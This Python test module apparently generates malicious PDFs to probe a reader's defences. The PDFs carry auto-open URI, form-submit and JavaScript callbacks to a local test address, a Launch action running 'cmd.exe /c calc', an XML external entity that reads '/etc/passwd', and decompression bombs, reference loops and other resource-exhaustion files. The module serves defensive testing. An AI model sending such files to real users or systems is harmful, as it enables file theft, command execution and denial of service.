"""PDF files that are built against their readers."""

from __future__ import annotations

import zlib
from collections.abc import Callable, Sequence

from support.web_pages import pdf

FACT = "Lamp oil costs 42 crowns."
Body = Callable[[str], bytes]
"""Function that makes a file, given the address of a server on this machine."""
_PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> {resources} >> {more} >>"
_FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def stream(content: bytes, about: str = "") -> bytes:
    return f"<< /Length {len(content)} {about} >>\nstream\n".encode() + content + b"\nendstream"


def pdf_of_objects(objects: Sequence[bytes | str], *, trailer: str = "", table: str | None = None) -> bytes:
    """A file of numbered objects, of which the first is the catalog."""
    body, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(body))
        body += f"{number} 0 obj\n".encode() + (content.encode() if isinstance(content, str) else content)
        body += b"\nendobj\n"
    rows = "".join(f"{place:010} 00000 n \n" for place in places)
    written = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{rows}" if table is None else table
    end = f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R {trailer} >>\nstartxref\n{len(body)}\n%%EOF\n"
    return body + f"{written}{end}".encode()


def page_pdf(
    *more_objects: bytes | str,
    catalog: str = "",
    pages: str = "/Kids [3 0 R] /Count 1",
    page: str = "",
    resources: str = "",
    drawn: bytes = b"",
    font: str = _FONT,
    **options: str,
) -> bytes:
    """A page that says the fact, with something else about it. Further objects have numbers from 6 on."""
    words = b"BT /F1 12 Tf 72 700 Td (" + FACT.encode() + b") Tj ET " + drawn
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        f"<< /Type /Pages {pages} >>",
        _PAGE.format(resources=resources, more=page),
        stream(words),
        font,
        *more_objects,
    ]
    return pdf_of_objects(objects, **options)


def _asking(at: str) -> bytes:
    """Everything in a page that asks for an address when it is opened."""
    return page_pdf(
        f"<< /S /URI /URI ({at}) >>",
        f"<< /S /SubmitForm /F << /FS /URL /F ({at}) >> >>",
        f"<< /S /GoToR /F << /FS /URL /F ({at}) >> /D [0 /Fit] >>",
        f"<< /S /JavaScript /JS (app.launchURL('{at}'); this.submitForm('{at}');) >>",
        f"<< /S /Launch /F ({at}) /Win << /F (cmd.exe) /P (/c calc) >> >>",
        "<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A 6 0 R /AA << /PO 8 0 R /PV 9 0 R >> >>",
        stream(
            b"",
            f"/Type /XObject /Subtype /Image /Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceGray /F << /FS /URL /F ({at}) >>",
        ),
        catalog="/OpenAction 9 0 R /AA << /WC 7 0 R /DS 10 0 R >>",
        page="/Annots [11 0 R] /AA << /O 9 0 R /C 10 0 R >>",
        resources="/XObject << /X 12 0 R >>",
        drawn=b"/X Do",
    )


def _xfa(at: str) -> bytes:
    form = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{at}"><!ENTITY f SYSTEM "file:///etc/passwd">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&e;&f;</xdp:xdp>'
    return page_pdf("<< /XFA 7 0 R /Fields [] >>", stream(form.encode()), catalog="/AcroForm 6 0 R")


def _outline_loop(_: str) -> bytes:
    return page_pdf(
        "<< /Type /Outlines /First 7 0 R /Last 8 0 R /Count 2 >>",
        "<< /Title (one) /Parent 6 0 R /Next 8 0 R /First 8 0 R /Last 8 0 R /Dest [3 0 R /Fit] >>",
        "<< /Title (two) /Parent 7 0 R /Next 7 0 R /First 7 0 R /Last 7 0 R /Dest [3 0 R /Fit] >>",
        catalog="/Outlines 6 0 R",
    )


def _forms(_: str) -> bytes:
    form = "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X {0} 0 R /Y {1} 0 R >> >>"
    return page_pdf(
        stream(b"/X Do /Y Do", form.format(7, 6)),
        stream(b"/X Do /Y Do", form.format(6, 7)),
        resources="/XObject << /X 6 0 R >>",
        drawn=b"/X Do",
    )


def _forms_doubling(_: str) -> bytes:
    """Each form draws the next one twice: 2 ** 40 in the end."""
    forms = [
        stream(
            b"/X Do /X Do",
            f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X {number + 1} 0 R >> >>",
        )
        for number in range(6, 46)
    ]
    last = stream(b"0 0 1 1 re f", "/Type /XObject /Subtype /Form /BBox [0 0 9 9]")
    return page_pdf(*forms, last, resources="/XObject << /X 6 0 R >>", drawn=b"/X Do")


def _letters(_: str) -> bytes:
    """A font whose table says that one letter is ten thousand."""
    table = (
        b"/CIDInit /ProcSet findresource begin begincmap 1 beginbfrange <00> <1f> <"
        + b"0041" * 10_000
        + b"> endbfrange endcmap"
    )
    return page_pdf(stream(table), font="<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>")


def _encrypted(_: str) -> bytes:
    locked = "<< /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <{0}> /U <{0}> >>".format("5a" * 32)
    return page_pdf(locked, trailer=f"/Encrypt 6 0 R /ID [<{'00' * 16}> <{'00' * 16}>]")


def _object_stream_bomb(_: str) -> bytes:
    return page_pdf(
        stream(zlib.compress(bytes(400_000_000), 9), "/Type /ObjStm /N 1000000 /First 9 /Filter /FlateDecode"),
        drawn=b"",
    )


def _content_bomb(_: str) -> bytes:
    return pdf(b"BT /F1 12 Tf (Lamp oil costs 42 crowns.) Tj ET " + b" " * 300_000_000)


PDFS: dict[str, tuple[Body, set[str]]] = {
    "pdf that asks for addresses": (_asking, {"read"}),
    "pdf with a form of entities": (_xfa, {"read"}),
    "pdf with a loop of bookmarks": (_outline_loop, {"read"}),
    "pdf with forms in each other": (_forms, {"read", "complex", "broken"}),
    "pdf with doubling forms": (_forms_doubling, {"read", "complex", "broken"}),
    "pdf with a hostile font": (_letters, {"read"}),
    "pdf with a password": (_encrypted, {"locked"}),
    "pdf whose table refers to itself": (
        lambda _: page_pdf(trailer="/Prev 0", table="xref\n0 1\n0000000000 65535 f \n").replace(b"/Prev 0", b"/Prev 9"),
        {"read", "broken"},
    ),
    "pdf with a table of lies": (
        lambda _: page_pdf(table="xref\n0 4000000000\n" + "9999999999 00000 n \n" * 50),
        {"read", "broken"},
    ),
    "pdf whose pages hold themselves": (
        lambda _: page_pdf(pages="/Kids [2 0 R 3 0 R] /Count 2"),
        {"read", "broken", "scanned"},
    ),
    "pdf that counts a billion pages": (
        lambda _: page_pdf(pages="/Kids [3 0 R] /Count 1000000000"),
        {"read", "broken", "complex"},
    ),
    "pdf with minus one page": (lambda _: page_pdf(pages="/Kids [3 0 R] /Count -1"), {"read", "broken"}),
    "pdf of 10,000 pages": (
        lambda _: pdf(b"BT /F1 9 Tf 9 9 Td (Lamp oil costs 42 crowns.) Tj ET", pages=10_000),
        {"read"},
    ),
    "pdf as large as a country": (lambda _: page_pdf(page="/MediaBox [0 0 1e38 1e38]"), {"read"}),
    "pdf of nested lists": (
        lambda _: page_pdf(b"[" * 300_000 + b"]" * 300_000, catalog="/Names 6 0 R"),
        {"read", "broken"},
    ),
    "pdf of nested states": (lambda _: page_pdf(drawn=b"q " * 1_000_000), {"read", "complex"}),
    "pdf with a bomb of objects": (_object_stream_bomb, {"read", "broken", "complex"}),
    "pdf with a bomb of blanks": (_content_bomb, {"read", "broken", "complex"}),
    "pdf with a hundred filters": (
        lambda _: page_pdf(stream(b"x", f"/Filter [{'/FlateDecode ' * 100}]"), page="/Contents 6 0 R"),
        {"read", "scanned", "empty"},
    ),
    "pdf with a picture of a terapixel": (
        lambda _: page_pdf(
            stream(
                b"x",
                "/Type /XObject /Subtype /Image /Width 1000000 /Height 1000000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /JPXDecode",
            ),
            resources="/XObject << /X 6 0 R >>",
            drawn=b"q 500 0 0 800 0 0 cm /X Do Q",
        ),
        {"read"},
    ),
    "pdf that ends early": (lambda _: page_pdf()[:200], {"broken"}),
    "pdf with a million of words before it": (lambda _: b"%PDF-1.7\n" + b"% lamp\n" * 1_000_000, {"broken"}),
}
